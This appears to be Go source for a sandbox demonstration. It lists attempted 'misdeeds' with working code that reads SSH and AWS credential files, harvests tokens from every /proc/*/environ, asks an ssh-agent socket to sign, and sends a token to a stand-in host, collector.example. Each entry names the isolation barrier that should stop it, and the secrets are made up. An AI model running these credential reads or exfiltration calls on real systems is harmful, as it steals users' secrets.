package demo

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// The names of the made-up secrets in environments.
const (
	deployToken  = "DEPLOY_TOKEN"
	databasePass = "DATABASE_PASSWORD"
)

// secrets are misdeeds that take something away.
var secrets = []misdeed{
	{
		name: "ssh-key", title: "read ~/.ssh/id_ed25519",
		try:  func(t target) (string, error) { return read(filepath.Join(t.Home, ".ssh/id_ed25519")) },
		harm: brought(func(s *stage) string { return s.sshKey }), wall: "not there: a home of its own",
	},
	{
		name: "aws-credentials", title: "read ~/.aws/credentials",
		try:  func(t target) (string, error) { return read(filepath.Join(t.Home, ".aws/credentials")) },
		harm: brought(func(s *stage) string { return s.awsKey }), wall: "not there: a home of its own",
	},
	{
		name: "environment", title: "read $" + deployToken,
		try:  func(target) (string, error) { return searchEnvironments(deployToken) },
		harm: brought(func(s *stage) string { return s.deployToken }), wall: "not passed on: few variables are",
	},
	{
		name: "process-environment", title: "read a process's environment",
		try: func(t target) (string, error) {
			return variable(fmt.Sprintf("/proc/%d/environ", t.Process), databasePass)
		},
		harm: brought(func(s *stage) string { return s.databasePass }), wall: "own process namespace",
	},
	{
		name: "agent-socket", title: "ask your ssh-agent to sign",
		try:  func(t target) (string, error) { return knock("unix", t.Socket, t.Token) },
		harm: knocked("agent"), wall: "not there: no socket is shared",
	},
	{
		name: "internet", title: "send it to " + collector,
		try:  send,
		harm: knocked("collector"), wall: "gateway: no rule matches",
	},
	{
		name: "loopback", title: "call a service on 127.0.0.1",
		try:  func(t target) (string, error) { return knock("tcp", fmt.Sprintf("127.0.0.1:%d", t.Port), t.Token) },
		harm: knocked("service"), wall: "its loopback is not yours",
	},
	{
		name: "abstract-socket", title: "call an abstract socket (as X11's)",
		try:  func(t target) (string, error) { return knock("unix", t.Abstract, t.Token) },
		harm: knocked("abstract"), wall: "own network namespace",
	},
}

func read(path string) (string, error) {
	b, err := os.ReadFile(path)
	return string(b), err
}

// searchEnvironments looks for a variable in every process it can see, itself first.
func searchEnvironments(name string) (string, error) {
	if v, ok := os.LookupEnv(name); ok {
		return v, nil
	}
	all, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, file := range all {
		if v, err := variable(file, name); err == nil {
			return v, nil
		}
	}
	return "", unix.ENOENT
}

// variable takes one out of a process's environment.
func variable(file, name string) (string, error) {
	b, err := os.ReadFile(file)
	if err != nil {
		return "", err
	}
	for v := range strings.SplitSeq(string(b), "\x00") {
		if value, ok := strings.CutPrefix(v, name+"="); ok {
			return value, nil
		}
	}
	return "", unix.ENOENT
}

// knockTime is how long a visit may take.
const knockTime = 10 * time.Second

// knock says the word at a door and returns the answer.
func knock(network, address, word string) (string, error) {
	c, err := net.DialTimeout(network, address, knockTime)
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(knockTime))
	if _, err := fmt.Fprintln(c, word); err != nil {
		return "", err
	}
	answer, err := bufio.NewReader(c).ReadString('\n')
	return strings.TrimSpace(answer), err
}

// collector is a host of nobody's.
const collector = "collector.example"

// send takes the word to the collector. Outside, that is a dummy on 127.0.0.1, so that nothing leaves
// this machine. Inside, the name is refused before it is looked up.
func send(t target) (string, error) {
	if t.Bare {
		return knock("tcp", fmt.Sprintf("127.0.0.1:%d", t.Collector), t.Token)
	}
	return knock("tcp", collector+":443", t.Token)
}

// knocked says whether a door was opened.
func knocked(name string) func(*stage, report) bool {
	return func(s *stage, _ report) bool { return s.doors[name].opened.Load() }
}
